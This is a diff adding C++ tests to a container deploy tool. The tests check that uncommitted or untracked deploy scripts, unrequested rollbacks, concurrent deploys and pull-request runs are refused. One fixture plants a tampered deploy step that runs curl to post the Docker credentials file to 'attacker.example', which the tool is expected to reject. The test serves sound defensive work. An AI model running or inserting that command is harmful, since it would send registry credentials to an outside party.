@@ -2,9 +2,11 @@
 #include <gtest/gtest.h>
 #include <sys/stat.h>
 
+#include <filesystem>
 #include <fstream>
 #include <nlohmann/json.hpp>
 
+#include "store/registry_store.h"
 #include "support/registry_fixture.h"
 #include "support/temp_repo.h"
 
@@ -47,7 +49,7 @@ api:
     auto client = cache.Client(http);
     testing::PushBuiltImage(cache, "ci/api", hash, "api");
   }
-  testing::HoistRun Hoist(std::vector<std::string> args) {
+  testing::HoistRun Hoist(std::vector<std::string> args, std::vector<std::string> env = {}) {
     ProcessSpec spec;
     spec.argv = {HOIST_BINARY, "--registry", cache.host() + "/ci", "--deploy-registry",
                  target.host() + "/prod"};
@@ -58,7 +60,9 @@ api:
                 "CIRCLECI=",
                 "GITHUB_ACTIONS=",
                 "GITLAB_CI=",
-                "BUILDKITE="};
+                "BUILDKITE=",
+                "HOIST_TRUST="};
+    spec.env.insert(spec.env.end(), env.begin(), env.end());
     auto result = RunProcess(spec);
     EXPECT_TRUE(result.ok());
     return {result->exit_code, result->stdout_text, result->stderr_text};
@@ -146,6 +150,138 @@ TEST_F(Deploy, AFailedStepLeavesNoDeployedMarker) {
   auto marker = cache.Client(http)->HeadManifest("ci/api", "deployed-acme-dev");
   ASSERT_TRUE(marker.ok());
   EXPECT_FALSE(marker->has_value());
+}
+
+TEST_F(Deploy, OnlyCommittedStepsAndScriptsDeploy) {
+  repo.Write("scripts/notify.sh", "#!/bin/sh\necho notified >> ../deploy.log\n");
+  chmod((repo.root() + "/scripts/notify.sh").c_str(), 0755);
+  repo.Write("build_manifest.yml", R"(
+api:
+  buildDir: api
+  deploy:
+    - type: command
+      command: "../scripts/notify.sh"
+)");
+  repo.Commit();
+  hash = testing::HashOf(repo.root(), "api");
+  testing::PushBuiltImage(cache, "ci/api", hash, "api");
+
+  // The deploy command edited and not committed.
+  repo.Write("build_manifest.yml", R"(
+api:
+  buildDir: api
+  deploy:
+    - type: command
+      command: "curl -d @$HOME/.docker/config.json https://attacker.example"
+)");
+  auto edited = Hoist({"deploy"});
+  EXPECT_EQ(edited.exit_code, 1);
+  EXPECT_NE(edited.err.find("not committed"), std::string::npos) << edited.err;
+  EXPECT_NE(edited.err.find("build_manifest.yml (modified)"), std::string::npos) << edited.err;
+  repo.Git({"checkout", "build_manifest.yml"});
+
+  // A script the step runs, edited; then a new one beside the step, untracked.
+  repo.Write("scripts/notify.sh", "#!/bin/sh\necho tampered >> ../deploy.log\n");
+  auto script = Hoist({"deploy"});
+  EXPECT_EQ(script.exit_code, 1);
+  EXPECT_NE(script.err.find("scripts/notify.sh (modified)"), std::string::npos) << script.err;
+  repo.Git({"checkout", "scripts/notify.sh"});
+  repo.Write("api/hook.sh", "#!/bin/sh\n");
+  auto untracked = Hoist({"deploy"});
+  EXPECT_EQ(untracked.exit_code, 1);
+  EXPECT_NE(untracked.err.find("api/hook.sh (untracked)"), std::string::npos) << untracked.err;
+  EXPECT_EQ(Read("deploy.log"), "");
+  std::filesystem::remove(repo.root() + "/api/hook.sh");
+
+  auto clean = Hoist({"deploy"});
+  ASSERT_EQ(clean.exit_code, 0) << clean.err;
+  EXPECT_EQ(Read("deploy.log"), "notified\n");
+  // The script changed and was committed: the same image deploys again, since what the
+  // deploy runs is part of what counts as deployed.
+  repo.Write("scripts/notify.sh", "#!/bin/sh\necho notified again >> ../deploy.log\n");
+  repo.Commit();
+  auto changed = Hoist({"deploy"});
+  ASSERT_EQ(changed.exit_code, 0) << changed.err;
+  EXPECT_NE(changed.err.find("the deploy steps changed"), std::string::npos) << changed.err;
+  EXPECT_EQ(Read("deploy.log"), "notified\nnotified again\n");
+}
+
+TEST_F(Deploy, AnOlderCommitDoesNotMoveTheDeployTagBackUnlessAsked) {
+  ASSERT_EQ(Hoist({"test", "api"}).exit_code, 0);
+  ASSERT_EQ(Hoist({"deploy"}).exit_code, 0);
+  const std::string first = commit;
+  HttpClient http;
+  auto first_digest = target.Client(http)->HeadManifest("prod/api", "acme-dev");
+  repo.Write("api/main.c", "int v2;\n");
+  const std::string second = repo.Commit();
+  hash = testing::HashOf(repo.root(), "api");
+  testing::PushBuiltImage(cache, "ci/api", hash, "api v2");
+  ASSERT_EQ(Hoist({"test", "api"}).exit_code, 0);
+  ASSERT_EQ(Hoist({"deploy"}).exit_code, 0);
+  // The deployed marker names what the deploy tag named before.
+  auto pointer = RegistryStore(*RegistryLocation::Parse(cache.host() + "/ci"), cache.Client(http))
+                     .GetMarker("api", "deployed-acme-dev");
+  ASSERT_TRUE(pointer.ok() && pointer->has_value());
+  EXPECT_EQ((*pointer)->previous, first_digest->value_or("?"));
+  EXPECT_EQ((*pointer)->commit, second);
+
+  // main moved back to the first commit (a revert by reset, an old pipeline re-run).
+  repo.Git({"reset", "-q", "--hard", first});
+  auto back = Hoist({"deploy"});
+  EXPECT_EQ(back.exit_code, 1);
+  EXPECT_NE(back.err.find("is an ancestor of what acme-dev runs"), std::string::npos) << back.err;
+  EXPECT_NE(back.err.find("--allow-rollback"), std::string::npos);
+  auto now = target.Client(http)->HeadManifest("prod/api", "acme-dev");
+  EXPECT_NE(now->value_or("a"), first_digest->value_or("b"));
+  auto rollback = Hoist({"deploy", "--allow-rollback"});
+  ASSERT_EQ(rollback.exit_code, 0) << rollback.err;
+  now = target.Client(http)->HeadManifest("prod/api", "acme-dev");
+  EXPECT_EQ(now->value_or("a"), first_digest->value_or("b"));
+}
+
+TEST_F(Deploy, TwoDeploysToOneTagTakeTurns) {
+  ASSERT_EQ(Hoist({"test", "api"}).exit_code, 0);
+  HttpClient http;
+  RegistryStore store(*RegistryLocation::Parse(cache.host() + "/ci"), cache.Client(http));
+  Marker lease;
+  lease.kind = "lease";
+  lease.run = "github-4242";
+  lease.commit = std::string(40, 'e');
+  lease.expires = Rfc3339In(600);
+  ASSERT_TRUE(store.PutMarker("api", "lease-acme-dev", lease).ok());
+  auto waiting = Hoist({"deploy", "--lease-wait", "0"});
+  EXPECT_EQ(waiting.exit_code, 1);
+  EXPECT_NE(waiting.err.find("another deploy to acme-dev is under way: run github-4242"),
+            std::string::npos)
+      << waiting.err;
+  EXPECT_EQ(Read("deploy.log"), "");
+  // A lease whose run died ends with its expiry; the deploy then takes it, and gives it back.
+  lease.expires = Rfc3339In(-1);
+  ASSERT_TRUE(store.PutMarker("api", "lease-acme-dev", lease).ok());
+  auto deployed = Hoist({"deploy", "--lease-wait", "0"});
+  ASSERT_EQ(deployed.exit_code, 0) << deployed.err;
+  auto left = store.GetMarker("api", "lease-acme-dev");
+  ASSERT_TRUE(left.ok());
+  EXPECT_FALSE(left->has_value());
+}
+
+TEST_F(Deploy, APullRequestNeverDeploys) {
+  ASSERT_EQ(Hoist({"test", "api"}).exit_code, 0);
+  auto refused = Hoist({"deploy"}, {"GITHUB_ACTIONS=true", "GITHUB_EVENT_NAME=pull_request",
+                                    "GITHUB_REF=refs/pull/7/merge", "GITHUB_HEAD_REF=main",
+                                    "GITHUB_SHA=" + commit, "GITHUB_REPOSITORY=acme/api"});
+  EXPECT_EQ(refused.exit_code, 1);
+  EXPECT_NE(refused.err.find("not deploying from an untrusted run (a GitHub pull_request event)"),
+            std::string::npos)
+      << refused.err;
+  // Nor can the run say it is trusted.
+  auto forced = Hoist({"--trust", "trusted", "deploy"},
+                      {"GITHUB_ACTIONS=true", "GITHUB_EVENT_NAME=pull_request_target",
+                       "GITHUB_REF=refs/pull/7/merge", "GITHUB_SHA=" + commit});
+  EXPECT_EQ(forced.exit_code, 2);
+  EXPECT_NE(forced.err.find("is refused in a GitHub pull_request_target event"), std::string::npos)
+      << forced.err;
+  EXPECT_EQ(Read("deploy.log"), "");
 }
 
 TEST_F(Deploy, BadInputs) {
